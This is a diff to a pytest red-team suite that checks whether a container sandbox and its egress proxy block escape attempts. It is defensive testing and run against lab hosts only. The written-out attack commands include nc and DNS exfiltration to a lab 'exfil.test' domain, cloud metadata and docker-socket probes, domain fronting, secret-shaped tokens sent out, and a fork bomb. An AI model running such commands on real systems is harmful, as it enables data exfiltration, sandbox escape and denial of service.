@@ -1,5 +1,7 @@
 """The red team: attacks from inside a started bottle, against lab hosts only,
-under runc and under gVisor.
+under runc and under gVisor, on both topologies: the lab network named by
+`egress.network`, and the default one every user's bottle has (the shared
+egress network, which the lab's servers join under the same names).
 
 No case can pass by accident:
 - `attack` fails the test unless the bottle started and the attack script ran
@@ -12,9 +14,13 @@ No case can pass by accident:
 
 from __future__ import annotations
 
+import http.server
+import ipaddress
 import re
 import secrets
 import subprocess
+import threading
+from collections.abc import Iterator
 from dataclasses import dataclass
 from pathlib import Path
 
@@ -25,14 +31,24 @@ from claude_bottle.engine.docker import DockerEngine
 from tests.conftest import wait_for
 from tests.engine.conftest import cli
 from tests.installed import cli_argv
-from tests.sidecar.conftest import ATTACKER_IMAGE, PROXY, Lab
+from tests.sidecar.conftest import ATTACKER_IMAGE, LAB_LABEL, PROXY, TOPOLOGIES, Lab, Site, site_project
 
-RUNTIMES = [pytest.param("attacker", id="runc"), pytest.param("attacker-gvisor", id="runsc")]
+# (agent, topology): every case on both topologies; gVisor on the lab's.
+CASES = [
+    pytest.param(("attacker", "lab"), id="runc-lab"),
+    pytest.param(("attacker-gvisor", "lab"), id="runsc-lab"),
+    pytest.param(("attacker", "default"), id="runc-default"),
+]
 # Every request below names its proxy explicitly and ignores NO_PROXY, so
 # nothing takes the agent's loopback shortcut when the proxy is under test.
 VIA = "--noproxy '' -x \"$HTTPS_PROXY\""
 DIRECT = "--noproxy '*'"
 CURL_COULD_NOT_CONNECT = 7
+# A refused tunnel, as curl -k reports it (HTTP status/CONNECT status/exit). The
+# SNI check is on by default, so Squid answers a refused CONNECT itself: it
+# accepts it, terminates the client's TLS with its throwaway certificate (which
+# -k accepts) and sends its 403 page. Nothing reaches the origin either way.
+REFUSED_TUNNEL = "403/200/0" if PROXY == "squid" else "000/403/56"
 
 
 @dataclass(frozen=True)
@@ -67,15 +83,42 @@ def curl(name: str, url: str, *flags: str) -> str:
     return f'curl -s -m 8 -o /dev/null -w \'{status}\' {" ".join(flags)} "{url}"; echo "/$?"'
 
 
-@pytest.fixture(params=RUNTIMES)
-def agent(request: pytest.FixtureRequest) -> str:
-    return str(request.param)
+@dataclass(frozen=True)
+class Bottle:
+    """Where an attack runs: the project (its manifest), the agent, and the site
+    its sidecar leaves through."""
+
+    project: Path
+    agent: str
+    site: Site
 
 
-def test_direct_ip_with_the_proxy_ignored(lab_project: Path, lab: Lab, agent: str) -> None:
+def _site(request: pytest.FixtureRequest, topology: str) -> Site:
+    return request.getfixturevalue(f"{topology}_site")  # type: ignore[no-any-return]
+
+
+@pytest.fixture(params=CASES)
+def bottle(
+    request: pytest.FixtureRequest, sidecar_image: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> Bottle:
+    agent, topology = request.param
+    site = _site(request, topology)
+    return Bottle(site_project(site, sidecar_image, tmp_path, monkeypatch), agent, site)
+
+
+@pytest.fixture(params=TOPOLOGIES)
+def runc_bottle(
+    request: pytest.FixtureRequest, sidecar_image: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> Bottle:
+    """The runc attacker on either topology (cases gVisor cannot hold, or that need no second runtime)."""
+    site = _site(request, request.param)
+    return Bottle(site_project(site, sidecar_image, tmp_path, monkeypatch), "attacker", site)
+
+
+def test_direct_ip_with_the_proxy_ignored(bottle: Bottle, lab: Lab) -> None:
     c = canary()
-    direct = f"http://{lab.web_ip}/{c}"
-    a = attack(lab_project, agent, "; ".join([
+    direct = f"http://{bottle.site.web_ip}/{c}"
+    a = attack(bottle.project, bottle.agent, "; ".join([
         curl("direct", direct, DIRECT),
         "P=$HTTPS_PROXY; unset HTTPS_PROXY HTTP_PROXY https_proxy http_proxy",
         curl("unset", direct),
@@ -84,24 +127,24 @@ def test_direct_ip_with_the_proxy_ignored(lab_project: Path, lab: Lab, agent: st
     assert a.value("direct") == f"000/000/{CURL_COULD_NOT_CONNECT}"
     assert a.value("unset") == f"000/000/{CURL_COULD_NOT_CONNECT}"
     assert a.value("control") == "200/000/0"
-    # The address is right: from the lab it answers, and logs what reaches it.
-    lab.control(f"curl -s http://{lab.web_ip}/control-{c}")
+    # The address is right: from the site's network it answers, and logs what reaches it.
+    bottle.site.control(f"curl -s http://{bottle.site.web_ip}/control-{c}")
     assert lab.web_saw(f"/control-{c}")
     assert not lab.web_saw(f"/{c}")
 
 
-def test_direct_tcp_and_udp(lab_project: Path, lab: Lab, agent: str) -> None:
-    c = canary()
-    a = attack(lab_project, agent,
-               f"printf 'tcp-{c}' | nc -w 2 {lab.web_ip} 9000; echo tcp=$?; "
+def test_direct_tcp_and_udp(bottle: Bottle, lab: Lab) -> None:
+    c, ip = canary(), bottle.site.web_ip
+    a = attack(bottle.project, bottle.agent,
+               f"printf 'tcp-{c}' | nc -w 2 {ip} 9000; echo tcp=$?; "
                f"python3 -c \"import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
-               f"try:\n  s.sendto(b'udp-{c}', ('{lab.web_ip}', 5353)); print('udp=sent')\n"
+               f"try:\n  s.sendto(b'udp-{c}', ('{ip}', 5353)); print('udp=sent')\n"
                f"except OSError as e:\n  print('udp=' + str(e.errno))\"")  # fmt: skip
     assert a.value("tcp") != "0"
     assert a.value("udp") in ("sent", "101")  # into the void, or refused at once; never to the lab
     # Control, after the attack: the listeners log what reaches them.
-    udp = f"socket.socket(2, 2).sendto(b'udp-ctl-{c}', ('{lab.web_ip}', 5353))"
-    lab.control(f"printf 'tcp-ctl-{c}' | nc -w 1 {lab.web_ip} 9000; python3 -c \"import socket; {udp}\"")
+    udp = f"socket.socket(2, 2).sendto(b'udp-ctl-{c}', ('{ip}', 5353))"
+    bottle.site.control(f"printf 'tcp-ctl-{c}' | nc -w 1 {ip} 9000; python3 -c \"import socket; {udp}\"")
     wait_for(lambda: lab.web_saw(f"udp-ctl-{c}") and lab.web_saw(f"tcp-ctl-{c}"), 10, "the control's packets")
     assert not lab.web_saw(f"tcp-{c}")
     assert not lab.web_saw(f"udp-{c}")
@@ -118,17 +161,17 @@ ICMP_ECHO = (
 )
 
 
-def test_icmp(lab_project: Path, lab: Lab, agent: str) -> None:
+def test_icmp(bottle: Bottle, lab: Lab) -> None:
     # An unprivileged ICMP socket (what ping uses without capabilities), so the
     # case tests the network, not the privilege the agent lacks.
-    a = attack(lab_project, agent, f'python3 -c "{ICMP_ECHO}" {lab.web_ip}')
+    a = attack(bottle.project, bottle.agent, f'python3 -c "{ICMP_ECHO}" {bottle.site.web_ip}')
     # No reply (runc: into the void); no ICMP sockets at all (gVisor: 97).
     assert a.value("icmp") in ("timeout", "97", "101", "113")
-    assert "icmp=reply" in lab.control(f'python3 -c "{ICMP_ECHO}" {lab.web_ip}')
+    assert "icmp=reply" in bottle.site.control(f'python3 -c "{ICMP_ECHO}" {bottle.site.web_ip}')
 
 
-def test_privileges_are_gone_for_every_process(lab_project: Path, lab: Lab, agent: str) -> None:
-    a = attack(lab_project, agent,
+def test_privileges_are_gone_for_every_process(bottle: Bottle, lab: Lab) -> None:
+    a = attack(bottle.project, bottle.agent,
                "grep -E '^(CapEff|CapPrm|CapBnd|NoNewPrivs|Seccomp):' /proc/self/status | tr -d '\\t' "
                "| sed 's/:/=/'; ip route add 10.99.0.0/16 dev lo 2>/dev/null; echo addroute=$?")  # fmt: skip
     assert a.value("CapEff") == "0000000000000000"
@@ -136,25 +179,27 @@ def test_privileges_are_gone_for_every_process(lab_project: Path, lab: Lab, agen
     # The bounding set is what shows --cap-drop ALL: nothing, even setuid root, can gain a capability.
     assert a.value("CapBnd") == "0000000000000000"
     assert a.value("addroute") != "0"
-    if agent == "attacker":
+    if bottle.agent == "attacker":
         # gVisor's /proc reports neither field (a known limit, in the README).
         assert a.value("NoNewPrivs") == "1"
         assert a.value("Seccomp") == "2"
 
 
-def test_dns_to_a_lab_server_by_address(lab_project: Path, lab: Lab, agent: str) -> None:
-    c = canary()
+def test_dns_to_a_lab_server_by_address(bottle: Bottle, lab: Lab) -> None:
+    c, dns = canary(), bottle.site.dns_ip
     a = attack(
-        lab_project, agent, f"dig @{lab.dns_ip} +time=2 +tries=1 {c}.exfil.test >/dev/null 2>&1; echo dig=$?"
+        bottle.project,
+        bottle.agent,
+        f"dig @{dns} +time=2 +tries=1 {c}.exfil.test >/dev/null 2>&1; echo dig=$?",
     )
     assert a.value("dig") != "0"
-    lab.control(f"dig @{lab.dns_ip} +time=2 +tries=1 ctl-{c}.exfil.test >/dev/null; true")
+    bottle.site.control(f"dig @{dns} +time=2 +tries=1 ctl-{c}.exfil.test >/dev/null; true")
     assert f"ctl-{c}.exfil.test" in lab.dns_queries()
     assert f"{c}.exfil.test" not in lab.dns_queries()
 
 
-def test_no_ipv6(lab_project: Path, lab: Lab, agent: str) -> None:
-    a = attack(lab_project, agent,
+def test_no_ipv6(bottle: Bottle, lab: Lab) -> None:
+    a = attack(bottle.project, bottle.agent,
                "python3 -c \"import socket\ntry:\n  s=socket.socket(socket.AF_INET6); s.settimeout(3); "
                "s.connect(('fd00::1', 80)); print('v6=connected')\n"
                "except OSError as e:\n  print('v6=' + str(e.errno))\"; "
@@ -164,20 +209,68 @@ def test_no_ipv6(lab_project: Path, lab: Lab, agent: str) -> None:
     assert a.value("global") == "0"
 
 
-def test_no_docker_socket_and_no_way_to_the_host(lab_project: Path, lab: Lab, agent: str) -> None:
-    a = attack(lab_project, agent,
+@pytest.fixture
+def host_listener() -> Iterator[tuple[int, list[str]]]:
+    """An HTTP listener on every address of this host (the bridges' too): its port,
+    and the paths it was asked for."""
+    seen: list[str] = []
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            seen.append(self.path)
+            self.send_response(200)
+            self.end_headers()
+
+        def log_message(self, *args: object) -> None:
+            return None
+
+    server = http.server.ThreadingHTTPServer(("0.0.0.0", 0), Handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    try:
+        yield server.server_port, seen
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+def gateway_of(engine: DockerEngine, network: str) -> str:
+    """The gateway a network's containers would route through: the engine's record,
+    or (a network made with a subnet of its own records none) its first address."""
+    (config,) = engine.json("network", "inspect", network)[0]["IPAM"]["Config"][:1]
+    return str(config.get("Gateway") or ipaddress.ip_network(config["Subnet"]).network_address + 1)
+
+
+def test_no_docker_socket_and_no_way_to_the_host(
+    engine: DockerEngine, bottle: Bottle, lab: Lab, host_listener: tuple[int, list[str]]
+) -> None:
+    port, seen = host_listener
+    c = canary()
+    # The real gateways: of the bottle's own internal network (read from inside, where
+    # the agent finds it) and of the network its sidecar leaves through.
+    egress_gateway = gateway_of(engine, bottle.site.network)
+    a = attack(bottle.project, bottle.agent,
                "test -e /var/run/docker.sock; echo sock=$?; "
-               # The internal network's gateway address: the host's side, if it had one.
-               "gw=$(ip -4 -o addr show eth0 | awk '{split($4, a, \"/\"); split(a[1], o, \".\"); "
-               "print o[1]\".\"o[2]\".\"o[3]\".1\"}'); echo gw=$gw; "
-               f"{curl('daemon', 'http://$gw:2375/', DIRECT)}")  # fmt: skip
+               "gw=$(python3 -c \"import ipaddress, subprocess as p; "
+               "a = p.run(['ip', '-4', '-o', 'addr', 'show', 'eth0'], capture_output=True, text=True)"
+               ".stdout.split()[3]; print(ipaddress.ip_interface(a).network.network_address + 1)\"); "
+               "echo gw=$gw; "
+               f"{curl('daemon', 'http://$gw:2375/', DIRECT)}; "
+               f"{curl('internal', f'http://$gw:{port}/{c}-internal', DIRECT)}; "
+               f"{curl('egress', f'http://{egress_gateway}:{port}/{c}-egress', DIRECT)}; "
+               f"{curl('proxied', f'http://{egress_gateway}:{port}/{c}-proxied', VIA)}")  # fmt: skip
     assert a.value("sock") == "1"
-    assert re.fullmatch(r"\d+\.\d+\.\d+\.1", a.value("gw"))
+    assert ipaddress.ip_address(a.value("gw"))
     assert a.value("daemon").endswith(f"/{CURL_COULD_NOT_CONNECT}")
+    assert a.value("internal").endswith(f"/{CURL_COULD_NOT_CONNECT}")
+    assert a.value("egress").endswith(f"/{CURL_COULD_NOT_CONNECT}")
+    assert a.value("proxied").startswith("403/")  # an address is never an allowed host
+    # The control: the listener answers a plain container through its network's gateway.
+    bottle.site.control(f"curl -s -m 5 http://{egress_gateway}:{port}/{c}-control")
+    assert seen == [f"/{c}-control"]
 
 
-def test_metadata_address_directly_and_through_the_proxy(lab_project: Path, lab: Lab, agent: str) -> None:
-    a = attack(lab_project, agent,
+def test_metadata_address_directly_and_through_the_proxy(bottle: Bottle, lab: Lab) -> None:
+    a = attack(bottle.project, bottle.agent,
                f"{curl('direct', 'http://169.254.169.254/', DIRECT)}; "
                f"{curl('proxied', 'http://169.254.169.254/latest/meta-data/', VIA)}; "
                f"{curl('control', 'http://allowed.test/', VIA)}")  # fmt: skip
@@ -191,81 +284,96 @@ def test_metadata_address_directly_and_through_the_proxy(lab_project: Path, lab:
     "http://[::ffff:127.0.0.1]:9464/", "http://localhost/", "http://10.0.0.1/", "http://[::1]/",
     "http://private.lab.test/", "https://private.lab.test/",
 ])  # fmt: skip
-def test_loopback_and_private_addresses_through_the_proxy(lab_project: Path, lab: Lab, url: str) -> None:
+def test_loopback_and_private_addresses_through_the_proxy(runc_bottle: Bottle, lab: Lab, url: str) -> None:
+    c = canary()
     a = attack(
-        lab_project,
-        "attacker",
-        f"{curl('attempt', url, VIA, '-k')}; {curl('control', 'http://allowed.test/', VIA)}",
+        runc_bottle.project,
+        runc_bottle.agent,
+        f"{curl('attempt', url + c, VIA, '-k')}; {curl('control', 'http://allowed.test/', VIA)}",
     )
     status = a.value("attempt")
-    assert status in ("403/000/0", "000/403/56"), status  # refused by the proxy: plain 403, or CONNECT 403
+    assert status in ("403/000/0", REFUSED_TUNNEL), status  # refused by the proxy: plain 403, or the tunnel's
     assert a.value("control") == "200/000/0"
+    assert not lab.web_saw(c)
 
 
-def test_ports_other_than_443_80_and_ssh(lab_project: Path, lab: Lab, agent: str) -> None:
+def test_ports_other_than_443_80_and_ssh(bottle: Bottle, lab: Lab) -> None:
     c = canary()
-    a = attack(lab_project, agent,
+    a = attack(bottle.project, bottle.agent,
                f"{curl('tls8443', f'https://allowed.test:8443/{c}', VIA, '-k')}; "
                f"{curl('http8080', f'http://allowed.test:8080/{c}', VIA)}; "
                f"{curl('connect80', f'http://allowed.test/{c}', VIA, '--proxytunnel')}; "
+               f"{curl('connect22', f'https://allowed.test:22/{c}', VIA, '-k')}; "
                f"{curl('tls', f'https://allowed.test/ctl-{c}', VIA, '-k')}; "
                f"{curl('http', f'http://allowed.test/ctl-{c}', VIA)}")  # fmt: skip
-    assert a.value("tls8443") == "000/403/56"
+    assert a.value("tls8443") == REFUSED_TUNNEL
     assert a.value("http8080") == "403/000/0"
     # Plain HTTP only as ordinary proxied requests, which the proxy inspects.
-    assert a.value("connect80") == ("000/403/56" if PROXY == "squid" else "200/200/0")
+    assert not a.value("connect80").startswith("200/"), a.value("connect80")
+    # 22 is no ssh port of this agent's (it has no ssh entry): no tunnel to it either.
+    assert not a.value("connect22").startswith("200/"), a.value("connect22")
     assert a.value("tls") == "200/200/0"
     assert a.value("http") == "200/000/0"
     assert not lab.web_saw(f"/{c}")
+    assert lab.web_saw(f"/ctl-{c}")
 
 
 @pytest.mark.parametrize("host", ["evilallowed.test", "allowed.test.evil.test", "blocked.test", "EVIL.TEST."])
-def test_look_alike_names_are_refused(lab_project: Path, lab: Lab, host: str) -> None:
+def test_look_alike_names_are_refused(runc_bottle: Bottle, lab: Lab, host: str) -> None:
     c = canary()
-    a = attack(lab_project, "attacker",
+    a = attack(runc_bottle.project, runc_bottle.agent,
                f"{curl('tls', f'https://{host}/{c}', VIA, '-k')}; "
                f"{curl('userinfo', f'http://allowed.test@{host}/{c}', VIA)}; "
                f"{curl('control', f'https://allowed.test/ctl-{c}', VIA, '-k')}")  # fmt: skip
-    assert a.value("tls") == "000/403/56"
+    assert a.value("tls") == REFUSED_TUNNEL
     assert a.value("userinfo") == "403/000/0"
     assert a.value("control") == "200/200/0"
+    assert lab.web_saw(f"/ctl-{c}")
     assert not lab.web_saw(f"/{c}")
 
 
-def test_an_address_whose_reverse_name_is_allowed_is_refused(lab_project: Path, lab: Lab, agent: str) -> None:
+def test_an_address_whose_reverse_name_is_allowed_is_refused(bottle: Bottle, lab: Lab) -> None:
     # Docker's DNS gives the lab web server's address a reverse name; whatever
     # it is, an address is never matched against the allowlist by that name.
+    c, ip = canary(), bottle.site.web_ip
     a = attack(
-        lab_project,
-        agent,
-        f"{curl('tls', f'https://{lab.web_ip}/', VIA, '-k')}; {curl('http', f'http://{lab.web_ip}/', VIA)}",
+        bottle.project,
+        bottle.agent,
+        f"{curl('tls', f'https://{ip}/{c}', VIA, '-k')}; {curl('http', f'http://{ip}/{c}', VIA)}; "
+        f"{curl('control', f'http://allowed.test/ctl-{c}', VIA)}",
     )
-    assert a.value("tls") == "000/403/56"
+    assert a.value("tls") == REFUSED_TUNNEL
     assert a.value("http") == "403/000/0"
+    assert a.value("control") == "200/000/0"
+    assert not lab.web_saw(f"/{c}")
 
 
-def test_the_allowed_name_in_other_spellings_still_means_only_that_host(lab_project: Path, lab: Lab) -> None:
-    a = attack(lab_project, "attacker", f"curl -sk -m 8 {VIA} https://ALLOWED.TEST./x; echo")
+def test_the_allowed_name_in_other_spellings_still_means_only_that_host(
+    runc_bottle: Bottle, lab: Lab
+) -> None:
+    a = attack(runc_bottle.project, runc_bottle.agent, f"curl -sk -m 8 {VIA} https://ALLOWED.TEST./x; echo")
     assert "hello from allowed.test. over https\n" in a.stdout.lower()
 
 
-def test_a_redirect_from_an_allowed_host_to_a_blocked_one(lab_project: Path, lab: Lab, agent: str) -> None:
+def test_a_redirect_from_an_allowed_host_to_a_blocked_one(bottle: Bottle, lab: Lab) -> None:
     c = canary()
     redirect = "https://allowed.test/redirect?to="
-    a = attack(lab_project, agent, "; ".join([
+    a = attack(bottle.project, bottle.agent, "; ".join([
         curl("attempt", f"{redirect}https://blocked.test/{c}", VIA, "-kL"),
         curl("control", f"{redirect}https://allowed.test/ctl-{c}", VIA, "-kL"),
     ]))  # fmt: skip
-    assert a.value("attempt") == "000/403/56"
+    # The redirect is followed, and the second tunnel refused (its 403 page, or no tunnel).
+    assert a.value("attempt") in ("403/200/0", "000/200/56"), a.value("attempt")
     assert a.value("control") == "200/200/0"
     assert lab.web_saw(f"/ctl-{c}")
+    # (The canary is in the first request's query, so it is looked for as a host.)
     assert not any(str(e.get("host", "")).startswith("blocked.test") for e in lab.web_log())
 
 
-def test_a_secret_shaped_canary_in_plain_http_is_refused(lab_project: Path, lab: Lab, agent: str) -> None:
+def test_a_secret_shaped_canary_in_plain_http_is_refused(bottle: Bottle, lab: Lab) -> None:
     token = "ghp_" + secrets.token_hex(18)  # the shape of a GitHub token
     aws = "AKIA" + secrets.token_hex(8).upper()
-    a = attack(lab_project, agent, "; ".join([
+    a = attack(bottle.project, bottle.agent, "; ".join([
         curl("url", f"http://allowed.test/?t={token}", VIA),
         curl("aws", f"http://allowed.test/{aws}", VIA),
         curl("header", "http://allowed.test/", VIA, f"-H 'Authorization: Bearer {token}'"),
@@ -280,59 +388,78 @@ def test_a_secret_shaped_canary_in_plain_http_is_refused(lab_project: Path, lab:
     assert "secret_in_request" in a.stderr
 
 
-def test_a_second_bottle_cannot_be_reached(engine: DockerEngine, lab_project: Path, lab: Lab) -> None:
+def test_a_second_bottle_cannot_be_reached(engine: DockerEngine, runc_bottle: Bottle, lab: Lab) -> None:
+    c = canary()
+    # The holder's agent serves a port of its own, so that every probe has a listener.
+    serve = "python3 -m http.server 8000 >/dev/null 2>&1 & sleep 1; echo up; sleep 60"
     holder = subprocess.Popen(
-        cli_argv("run", "worker", "--", "sh", "-c", "echo up; sleep 60"),
-        cwd=lab_project, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
+        cli_argv("run", "worker", "--", "sh", "-c", serve),
+        cwd=runc_bottle.project, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
     )  # fmt: skip
     try:
         assert holder.stdout is not None
         assert holder.stdout.readline() == "up\n"  # its session has started
         owned = f"label={labels.OWNER_PID}={holder.pid}"
-        names = engine.lines("ps", "--filter", owned, "--format", "{{.Names}}")
-        assert len(names) == 2, names
-        fmt = "{{range .NetworkSettings.Networks}}{{.IPAddress}} {{end}}"
-        ips = [ip for n in names for ip in engine.run("inspect", "-f", fmt, n).stdout.split()]
+        agent, sidecar = (
+            engine.lines(
+                "ps", "--filter", owned, "--filter", f"label={labels.ROLE}={role}", "--format", "{{.Names}}"
+            )[0]
+            for role in (labels.ROLE_AGENT, labels.ROLE_SIDECAR)
+        )
+        fmt = "{{range $n, $c := .NetworkSettings.Networks}}{{$n}}={{$c.IPAddress}} {{end}}"
+        nets = dict(pair.split("=") for pair in engine.run("inspect", "-f", fmt, agent).stdout.split())
+        ((internal, agent_ip),) = nets.items()
+        sidecar_ip = engine.address_of(sidecar, internal)
         # By address only: a name the bottle's DNS does not know would be asked
         # upstream by old engines (CVE-2024-29018), and tests send nothing out.
-        probes = [curl(f"direct{i}", f"http://{ip}:3128/", DIRECT) for i, ip in enumerate(ips)]
-        probes += [curl(f"proxied{i}", f"https://{ip}:443/", VIA, "-k") for i, ip in enumerate(ips)]
-        a = attack(lab_project, "attacker", "; ".join(probes))
-        for i in range(len(ips)):
-            assert a.value(f"direct{i}").endswith(f"/{CURL_COULD_NOT_CONNECT}")
-        for i in range(len(ips)):
-            assert a.value(f"proxied{i}") == "000/403/56"
+        targets = {"agent": f"{agent_ip}:8000", "sidecar": f"{sidecar_ip}:3128"}
+        probes = [curl(f"direct_{w}", f"http://{t}/{c}", DIRECT) for w, t in targets.items()]
+        probes += [curl(f"proxied_{w}", f"https://{t}/{c}", VIA, "-k") for w, t in targets.items()]
+        a = attack(runc_bottle.project, runc_bottle.agent, "; ".join(probes))
+        for what in targets:
+            assert a.value(f"direct_{what}").endswith(f"/{CURL_COULD_NOT_CONNECT}"), what
+            assert a.value(f"proxied_{what}") == REFUSED_TUNNEL, what
+        # The control: both answer a container on the holder's own network.
+        answers = engine.run(
+            "run", "--rm", "--label", f"{LAB_LABEL}=1", "--network", internal, ATTACKER_IMAGE, "sh", "-c",
+            " ; ".join(f"curl -s -o /dev/null -w '{w}=%{{http_code}}\\n' -m 5 --noproxy '*' http://{t}/"
+                       for w, t in targets.items()),
+        ).stdout  # fmt: skip
+        assert "agent=200" in answers
+        assert "sidecar=400" in answers  # Squid, asked for no URL at all: it answers
     finally:
         holder.terminate()
         holder.communicate(timeout=60)
 
 
-def test_the_proxy_admin_interface(lab_project: Path, lab: Lab, agent: str) -> None:
+def test_the_proxy_admin_interface(bottle: Bottle, lab: Lab) -> None:
     if PROXY == "squid":
         paths = ["squid-internal-mgr/menu", "squid-internal-mgr/info", "squid-internal-static/icons/x"]
     else:
         paths = ["metrics", "stats", "api/v1/killswitch", "api/v1/killswitch/status", "api/v1/sessions"]
     script = "; ".join(curl(f"p{i}", f"$HTTPS_PROXY/{p}", DIRECT, "-X POST") for i, p in enumerate(paths))
     script += "; " + curl("manager", "cache_object://egress-proxy/info", VIA)
-    a = attack(lab_project, agent, f"{script}; {curl('control', 'http://allowed.test/', VIA)}")
+    a = attack(bottle.project, bottle.agent, f"{script}; {curl('control', 'http://allowed.test/', VIA)}")
     for i in range(len(paths)):
         assert not a.value(f"p{i}").startswith("200"), paths[i]
     assert not a.value("manager").startswith("200")
     assert a.value("control").startswith("200")
 
 
-def test_a_memory_balloon_is_contained(lab_project: Path, lab: Lab) -> None:
+def test_a_memory_balloon_is_contained(runc_bottle: Bottle, lab: Lab) -> None:
     # runc only: under the gVisor release in Debian 12 the balloon takes the whole
     # sandbox down and the engine's removal of it can hang (a known limit, in the README).
     balloon = "node -e 'const a=[]; for(;;) a.push(Buffer.alloc(1e7, 1))'"
-    a = attack(lab_project, "attacker", f"timeout 30 {balloon} >/dev/null 2>&1; echo balloon=$?")
+    a = attack(
+        runc_bottle.project, runc_bottle.agent, f"timeout 30 {balloon} >/dev/null 2>&1; echo balloon=$?"
+    )
     assert a.value("balloon") == "137"  # the kernel killed the balloon, the bottle lives on
 
 
-def test_a_fork_bomb_is_contained_by_the_pid_limit(lab_project: Path, lab: Lab) -> None:
+def test_a_fork_bomb_is_contained_by_the_pid_limit(runc_bottle: Bottle, lab: Lab) -> None:
     # runc only: under gVisor the engine's PID limit does not count the agent's
     # processes (a known limit, in the README).
-    a = attack(lab_project, "attacker",
+    a = attack(runc_bottle.project, runc_bottle.agent,
                # Read the limit first: once the bomb has used it up, nothing else can start.
                "echo pids=$(cat /sys/fs/cgroup/pids.max /sys/fs/cgroup/pids/pids.max 2>/dev/null); "
                "timeout 10 sh -c 'f() { f | f & }; f' >/dev/null 2>&1; echo alive=yes")  # fmt: skip
@@ -340,24 +467,26 @@ def test_a_fork_bomb_is_contained_by_the_pid_limit(lab_project: Path, lab: Lab) 
     assert a.value("alive") == "yes"
 
 
-@pytest.mark.skipif(PROXY != "squid", reason="egress.sni is Squid's switch; Pipelock always checks the SNI")
-def test_tls_whose_sni_differs_from_the_connect_host(lab_project: Path, lab: Lab) -> None:
+def test_tls_whose_sni_differs_from_the_connect_host(bottle: Bottle, lab: Lab) -> None:
+    """Domain fronting, against a bottle whose manifest says nothing of SNI: the
+    check is on by default (and on Pipelock always)."""
     c = canary()
     fronting = "--connect-to blocked.test:443:allowed.test:443"
-    a = attack(lab_project, "sni-attacker", "; ".join([
+    a = attack(bottle.project, bottle.agent, "; ".join([
         curl("fronted", f"https://blocked.test/{c}", VIA, "-k", fronting),
         curl("control", f"https://allowed.test/ctl-{c}", VIA, "-k"),
     ]))  # fmt: skip
-    assert not a.value("fronted").startswith("200")
+    assert not a.value("fronted").startswith("200/200")
     assert a.value("control") == "200/200/0"
     assert lab.web_saw(f"/ctl-{c}")
     assert not lab.web_saw(f"/{c}")
     assert "sni_not_allowed" in a.stderr
 
 
-def test_a_tunnel_open_at_the_end_is_in_the_summary(lab_project: Path, lab: Lab) -> None:
-    a = attack(lab_project, "gitter",
-               "(sleep 60 | nc -X connect -x ${HTTPS_PROXY#http://} git.allowed.test 22 >/dev/null 2>&1 &); "
+def test_a_tunnel_open_at_the_end_is_in_the_summary(runc_bottle: Bottle, lab: Lab) -> None:
+    a = attack(runc_bottle.project, "gitter",
+               "via=$(awk '/ProxyCommand/ {print $6; exit}' ~/.ssh/config); "  # the ssh config's way out
+               "(sleep 60 | nc -X connect -x $via git.allowed.test 22 >/dev/null 2>&1 &); "
                "sleep 1; echo opened=yes")  # fmt: skip
     assert a.value("opened") == "yes"
     assert re.search(r"allowed : .*git\.allowed\.test:22", a.stderr), a.stderr
